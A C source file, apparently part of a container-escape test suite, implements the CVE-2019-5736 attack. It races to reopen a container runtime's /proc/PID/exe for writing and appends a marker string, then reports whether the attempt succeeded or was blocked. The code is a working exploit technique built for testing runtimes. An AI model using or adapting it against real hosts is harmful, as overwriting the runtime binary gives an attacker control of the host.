/* Overwriting the runtime's binary through /proc/PID/exe or /proc/self/exe
 * (CVE-2019-5736).
 *
 *   esc_exe_overwrite [--script PATH] [--once] MARKER
 *
 * Watches /proc for processes whose executable is neither this program nor
 * busybox: the runtime, while it joins the container (exec) or is its
 * minimal init (sandbox).  Each such /proc/PID/exe is opened O_PATH; once
 * the binary is no longer running (ETXTBSY), it is reopened for writing
 * through /proc/self/fd and MARKER is appended: the attempt succeeded.
 * /proc/PID/exe refused (the runtime is not dumpable) is blocked.
 * --script PATH writes "#!/proc/self/exe" to PATH, for the test to exec:
 * the kernel then runs the exec'ing runtime's own binary inside the
 * container, which this program races to open before it turns itself
 * non-dumpable.  --once: a single scan (the sandbox's init is there from
 * the start); otherwise it watches until SIGTERM, SIGINT or SIGUSR1.
 *
 * The other route, without a race, is esc_ldso.c: the container's ELF
 * interpreter, running with the runtime's binary as /proc/self/exe. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <sys/stat.h>

#include "escape.h"

#define MAX_FOREIGN 16

static volatile sig_atomic_t stop;
static void on_stop(int sig) { (void)sig; stop = 1; }

struct foreign {
    int fd;
    pid_t pid;
    dev_t dev;
    ino_t ino;
    int done;
};

static struct foreign fo[MAX_FOREIGN];
static int n_fo, n_denied, n_written;
static pid_t denied_pid;
static int denied_errno;
static struct stat known[3];
static int n_known;

static int is_known(const struct stat *st)
{
    for (int i = 0; i < n_known; i++)
        if (known[i].st_dev == st->st_dev && known[i].st_ino == st->st_ino)
            return 1;
    return 0;
}

static void scan(void)
{
    DIR *d = opendir("/proc");
    if (d == NULL)
        esc_error("opendir /proc: %s", strerror(errno));
    struct dirent *e;
    while ((e = readdir(d)) != NULL) {
        char *end;
        long pid = strtol(e->d_name, &end, 10);
        if (*end != '\0' || pid <= 0 || pid == getpid())
            continue;
        char path[64];
        snprintf(path, sizeof(path), "/proc/%ld/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        if (fd < 0) {
            if (errno == EACCES || errno == EPERM) {
                if (n_denied++ == 0) {
                    denied_pid = (pid_t)pid;
                    denied_errno = errno;
                }
            }
            continue;
        }
        struct stat st;
        if (fstat(fd, &st) < 0 || is_known(&st)) {
            close(fd);
            continue;
        }
        int dup_ = 0;
        for (int i = 0; i < n_fo; i++)
            dup_ |= fo[i].dev == st.st_dev && fo[i].ino == st.st_ino;
        if (dup_ || n_fo == MAX_FOREIGN) {
            close(fd);
            continue;
        }
        fo[n_fo++] = (struct foreign){ fd, (pid_t)pid, st.st_dev, st.st_ino, 0 };
    }
    closedir(d);
}

/* try_write(F, FINAL): append the marker once the binary is not busy. */
static void try_write(struct foreign *f, const char *marker, int final)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/self/fd/%d", f->fd);
    int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (w < 0) {
        if (errno == ETXTBSY && !final)
            return; /* still running somewhere: later */
        char what[160];
        snprintf(what, sizeof(what), "reopen /proc/%d/exe (%lu:%lu) for writing", (int)f->pid,
                 (unsigned long)f->dev, (unsigned long)f->ino);
        esc_blocked_errno("exe_overwrite", what);
        f->done = 1;
        return;
    }
    char line[256];
    int n = snprintf(line, sizeof(line), "\n%s\n", marker);
    ssize_t r = write(w, line, (size_t)n);
    close(w);
    f->done = 1;
    if (r != n)
        return esc_blocked_errno("exe_overwrite", "write to the runtime's binary");
    n_written++;
    esc_result("exe_overwrite", 1, "appended the marker to the binary of pid %d (%lu:%lu) through /proc/%d/exe",
               (int)f->pid, (unsigned long)f->dev, (unsigned long)f->ino, (int)f->pid);
}

int main(int argc, char **argv)
{

    const char *script = NULL, *marker = NULL;
    int once = 0;
    for (int i = 1; i < argc; i++) {
        if (strcmp(argv[i], "--script") == 0 && i + 1 < argc)
            script = argv[++i];
        else if (strcmp(argv[i], "--once") == 0)
            once = 1;
        else if (marker == NULL && argv[i][0] != '-')
            marker = argv[i];
        else
            esc_error("usage: esc_exe_overwrite [--script PATH] [--once] MARKER");
    }
    if (marker == NULL)
        esc_error("usage: esc_exe_overwrite [--script PATH] [--once] MARKER");
    const char *mine[] = { "/proc/self/exe", "/bin/busybox", "/bin/sh" };
    for (int i = 0; i < 3; i++)
        if (stat(mine[i], &known[n_known]) == 0)
            n_known++;
    if (script != NULL) {
        int fd = open(script, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
        if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17 || fchmod(fd, 0755) < 0)
            esc_error("writing %s: %s", script, strerror(errno));
        close(fd);
    }
    struct sigaction sa;
    memset(&sa, 0, sizeof(sa));
    sa.sa_handler = on_stop;
    sigaction(SIGTERM, &sa, NULL);
    sigaction(SIGINT, &sa, NULL);
    sigaction(SIGUSR1, &sa, NULL);
    esc_info("watch", "ready");
    do {
        scan();
        for (int i = 0; i < n_fo; i++)
            if (!fo[i].done)
                try_write(&fo[i], marker, 0);
        sched_yield();
    } while (!once && !stop);
    for (int i = 0; i < n_fo; i++)
        if (!fo[i].done)
            try_write(&fo[i], marker, 1);
    if (n_denied > 0)
        esc_result("proc_exe", 0, "/proc/PID/exe refused %d times (first pid %d: %s): the runtime is not dumpable",
                   n_denied, (int)denied_pid, strerror(denied_errno));
    if (n_fo == 0 && n_denied == 0)
        esc_info("watch", "saw no process but its own and busybox");
    return esc_finish();
}
